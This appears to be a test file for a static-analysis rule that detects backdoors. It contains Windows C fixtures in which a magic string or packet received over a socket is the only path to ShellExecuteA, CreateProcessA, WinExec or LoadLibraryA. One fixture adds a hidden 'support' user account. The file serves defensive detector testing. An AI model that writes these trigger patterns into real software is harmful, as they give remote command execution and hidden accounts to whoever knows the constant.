// RUN: %run-both --checks=backdoor-input-trigger %s -- %mock | FileCheck %s -check-prefix=CHECK-MESSAGES -implicit-check-not="{{warning|error}}:"
// Windows payloads of backdoor-input-trigger: ShellExecute*, CreateProcess*,
// WinExec and LoadLibrary* reached only through a match of what a Winsock
// client sent; beside each, the same call that the match does not control.
#include <windows.h>

int recv(SOCKET s, char *buf, int len, int flags);
int send(SOCKET s, const char *buf, int len, int flags);
int strncmp(const char *a, const char *b, unsigned long n);
int strcmp(const char *a, const char *b);
int memcmp(const void *a, const void *b, unsigned long n);
char *strstr(const char *h, const char *n);

/* An update agent: a request prefix opens the named program. */
void agent_request(SOCKET s) {
  char req[1024];
  int n = recv(s, req, sizeof req - 1, 0);
  if (n <= 0) return;
  req[n] = 0;
  // ruleid: backdoor-input-trigger
  if (strncmp(req, "~OPEN ", 6) == 0)
  // CHECK-MESSAGES: :[[@LINE-1]]:7: warning: input read by 'recv' is compared with the constant "~OPEN " and only a match reaches 'ShellExecuteA' (command execution); whoever sends the constant runs commands on the host [backdoor-input-trigger]
    ShellExecuteA(0, "open", req + 6, 0, 0, SW_HIDE);
  send(s, "OK", 2, 0);
}

/* The agent's own updater runs for every request; the keyword only answers. */
void agent_update(SOCKET s) {
  char req[1024];
  int n = recv(s, req, sizeof req - 1, 0);
  if (n <= 0) return;
  req[n] = 0;
  // ok: backdoor-input-trigger (the match does not control the call)
  if (strncmp(req, "VERSION", 7) == 0) send(s, "2.1", 3, 0);
  ShellExecuteA(0, "open", "C:\\Program Files\\Agent\\update.exe", 0, 0, SW_HIDE);
}

/* A magic packet starts a hidden command interpreter. */
void agent_packet(SOCKET s) {
  char pkt[512];
  STARTUPINFOA si = {sizeof si};
  PROCESS_INFORMATION pi;
  recv(s, pkt, sizeof pkt, 0);
  // ruleid: backdoor-input-trigger
  if (memcmp(pkt, "\x7f\x01\xc3\x5a", 4) == 0)
  // CHECK-MESSAGES: :[[@LINE-1]]:7: warning: input read by 'recv' is compared with the constant "\x7f\x01\xc3Z" and only a match reaches 'CreateProcessA' (command execution); whoever sends the constant runs commands on the host [backdoor-input-trigger]
    CreateProcessA(0, pkt + 4, 0, 0, 0, CREATE_NO_WINDOW, 0, 0, &si, &pi);
}

/* CreateProcess for every packet: the match only labels the reply. */
void agent_worker(SOCKET s) {
  char pkt[512];
  char cmd[] = "C:\\Program Files\\Agent\\worker.exe";
  STARTUPINFOA si = {sizeof si};
  PROCESS_INFORMATION pi;
  recv(s, pkt, sizeof pkt, 0);
  // ok: backdoor-input-trigger (the match grants and runs nothing)
  if (memcmp(pkt, "PING", 4) == 0) send(s, "PONG", 4, 0);
  CreateProcessA(0, cmd, 0, 0, 0, CREATE_NO_WINDOW, 0, 0, &si, &pi);
}

/* WinExec and LoadLibrary on a command word. */
void agent_admin(SOCKET s) {
  char line[512];
  recv(s, line, sizeof line, 0);
  // ruleid: backdoor-input-trigger
  if (strcmp(line, "w1n-x3c") == 0) WinExec("cmd.exe /c net user support P@ss /add", SW_HIDE);
  // CHECK-MESSAGES: :[[@LINE-1]]:7: warning: input read by 'recv' is compared with the constant "w1n-x3c" and only a match reaches 'WinExec' (command execution); whoever sends the constant runs commands on the host [backdoor-input-trigger]
  // ruleid: backdoor-input-trigger
  if (strstr(line, "|plugin|")) LoadLibraryA(strstr(line, "|plugin|") + 8);
  // CHECK-MESSAGES: :[[@LINE-1]]:7: warning: input read by 'recv' is compared with the constant "|plugin|" and only a match reaches 'LoadLibraryA' (a library load); whoever sends the constant loads code of their choice [backdoor-input-trigger]
}

/* A dispatch of protocol commands after a login, the library named by configuration. */
struct agent_session { int logged_in; const char *plugin_dir; };

void agent_loop(struct agent_session *as, SOCKET s) {
  char line[512];
  while (recv(s, line, sizeof line, 0) > 0) {
    if (strcmp(line, "LOGIN") == 0) {
      send(s, "USER?", 5, 0);
    } else if (strcmp(line, "STATUS") == 0) {
      if (!as->logged_in) continue;
      send(s, "RUNNING", 7, 0);
    } else if (strcmp(line, "RELOAD") == 0) {
      if (!as->logged_in) continue;
      // ok: backdoor-input-trigger (after the login check its siblings perform)
      LoadLibraryA(as->plugin_dir);
    } else if (strcmp(line, "RESTART") == 0) {
      if (!as->logged_in) continue;
      // ok: backdoor-input-trigger (after the login check its siblings perform)
      WinExec("C:\\Program Files\\Agent\\restart.cmd", SW_HIDE);
    }
  }
}
